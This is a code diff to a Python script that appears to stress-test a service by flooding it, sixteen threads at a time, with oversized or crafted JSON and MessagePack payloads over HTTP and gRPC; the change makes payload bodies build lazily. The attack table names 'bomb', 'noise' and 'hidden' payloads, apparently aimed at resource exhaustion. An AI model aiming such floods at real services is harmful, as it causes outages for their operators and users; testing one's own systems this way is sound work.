@@ -9,6 +9,7 @@ import http.client
 import threading
 import time
 from collections.abc import Callable
+from functools import partial
 
 import grpc
 
@@ -78,10 +79,13 @@ def over_grpc(target: Victim, body: bytes, media_type: str, function: str, *, ac
         return 0
 
 
-def attack(send: Callable[..., int], body: bytes, media_type: str, function: str) -> Callable[..., Figures]:
-    """Sixteen of these at once, over and over."""
+def attack(
+    send: Callable[..., int], make: Callable[[], bytes], media_type: str, function: str
+) -> Callable[..., Figures]:
+    """Sixteen of these at once, over and over; the body is made when the attack begins, since it is large."""
 
     def run(target: Victim, seconds: float) -> Figures:
+        body = make()
         statuses: dict[int, int] = {}
         until = time.monotonic() + seconds
 
@@ -103,16 +107,16 @@ def attack(send: Callable[..., int], body: bytes, media_type: str, function: str
 
 
 ATTACKS = {
-    "json-http": attack(over_http, bomb(JSON), JSON, "kind"),
-    "msgpack-http": attack(over_http, bomb(MSGPACK), MSGPACK, "kind"),
-    "json-grpc": attack(over_grpc, bomb(JSON), JSON, "kind"),
-    "msgpack-grpc": attack(over_grpc, bomb(MSGPACK), MSGPACK, "kind"),
-    "json-loop": attack(over_http, bomb(JSON), JSON, "akind"),
-    "msgpack-loop": attack(over_grpc, bomb(MSGPACK), MSGPACK, "akind"),
-    "many-http": attack(over_http, bomb(MSGPACK, 249_000), MSGPACK, "kind"),
-    "noise-http": attack(over_http, noise(), MSGPACK, "kind"),
-    "noise-loop": attack(over_grpc, noise(), MSGPACK, "akind"),
-    "hidden-loop": attack(over_grpc, hidden(), MSGPACK, "akind"),
+    "json-http": attack(over_http, partial(bomb, JSON), JSON, "kind"),
+    "msgpack-http": attack(over_http, partial(bomb, MSGPACK), MSGPACK, "kind"),
+    "json-grpc": attack(over_grpc, partial(bomb, JSON), JSON, "kind"),
+    "msgpack-grpc": attack(over_grpc, partial(bomb, MSGPACK), MSGPACK, "kind"),
+    "json-loop": attack(over_http, partial(bomb, JSON), JSON, "akind"),
+    "msgpack-loop": attack(over_grpc, partial(bomb, MSGPACK), MSGPACK, "akind"),
+    "many-http": attack(over_http, partial(bomb, MSGPACK, 249_000), MSGPACK, "kind"),
+    "noise-http": attack(over_http, noise, MSGPACK, "kind"),
+    "noise-loop": attack(over_grpc, noise, MSGPACK, "akind"),
+    "hidden-loop": attack(over_grpc, hidden, MSGPACK, "akind"),
 }
 
 if __name__ == "__main__":
